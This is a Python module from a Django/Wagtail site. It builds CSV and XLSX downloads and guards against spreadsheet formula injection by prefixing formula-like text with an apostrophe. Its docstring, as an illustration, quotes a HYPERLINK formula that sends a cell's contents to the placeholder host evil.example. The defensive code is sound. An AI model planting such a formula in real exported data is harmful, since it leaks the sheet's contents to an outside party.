"""Downloads: any file the browser saves, and spreadsheets (CSV, XLSX) safe to open.

Names, notes and proposals typed by people end up in a coordinator's spreadsheet. In a CSV
file a cell that starts with = + - @ (or a tab or carriage return) is read as a formula by
Excel, LibreOffice and Google Sheets: a member named `=HYPERLINK("http://evil.example/?x="&A1)`
would become a link that sends the sheet away. OWASP's rule: such text gets a leading
apostrophe, which makes the spreadsheet show it as text. An XLSX cell carries its type, so
text is written as a text cell, never a formula, and keeps its exact value.

Every export of the project goes through here: views that build their own rows answer with
csv_response() or xlsx_response(), and Wagtail's list exports (`list_export` on a viewset)
get the same rule from SafeSpreadsheetExportMixin on their index view.
"""

import csv
import io
from numbers import Number

from django.http import HttpResponse
from django.utils.functional import Promise
from django.utils.http import content_disposition_header

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutralise(value):
    """Text a spreadsheet would read as a formula, with an apostrophe before it; any other
    value unchanged (numbers stay numbers: -5 is a number, not a formula)."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def _csv_cell(value):
    if value is None:
        return ""
    if isinstance(value, Number):
        return value
    return neutralise(str(value))  # str(): dates, and lazily translated headings


def download(content, content_type, filename):
    """A response the browser saves as `filename`."""
    return HttpResponse(
        content,
        content_type=content_type,
        headers={"Content-Disposition": content_disposition_header(True, filename)},
    )


def csv_response(rows, filename):
    """Rows (headings first, if any) as a CSV download named `filename`.csv."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows([_csv_cell(value) for value in row] for row in rows)
    # With a byte order mark, a spreadsheet opens the accents (Koudoubé) as UTF-8.
    return download(
        buffer.getvalue().encode("utf-8-sig"), "text/csv; charset=utf-8", f"{filename}.csv"
    )


def xlsx_response(rows, filename):
    """Rows as an XLSX download: text as text cells, dates and numbers as themselves (so the
    sheet can sort them)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()

    def cell(value):
        if not isinstance(value, str | Promise):
            return value
        text = WriteOnlyCell(sheet, str(value))
        if text.data_type == "f":  # openpyxl takes text starting with "=" for a formula
            # Text, marked as typed after an apostrophe: shown as it is, and still text
            # when someone edits the cell.
            text.data_type = "s"
            text.quotePrefix = True
        return text

    for row in rows:
        sheet.append([cell(value) for value in row])
    output = io.BytesIO()
    workbook.save(output)
    return download(output.getvalue(), XLSX_CONTENT_TYPE, f"{filename}.xlsx")


class SafeSpreadsheetExportMixin:
    """For a Wagtail index view (a viewset with `list_export`): CSV cells follow the rule
    above, and the file is named in the reader's language (a lazily translated
    `export_filename`). Wagtail 8 already writes XLSX text as text, but copies CSV cells raw
    (wagtail.admin.views.mixins.SpreadsheetExportMixin.write_csv_row)."""

    def get_filename(self):
        # A lazily translated export_filename, in the reader's language.
        return str(super().get_filename())

    def write_csv_response(self, queryset):
        # Wagtail writes the CSV file name into the header as it is; a translated name
        # (with accents) needs the encoded form browsers read.
        response = super().write_csv_response(queryset)
        response["Content-Disposition"] = content_disposition_header(
            True, f"{self.get_filename()}.csv"
        )
        return response

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return neutralise(value)
        return value
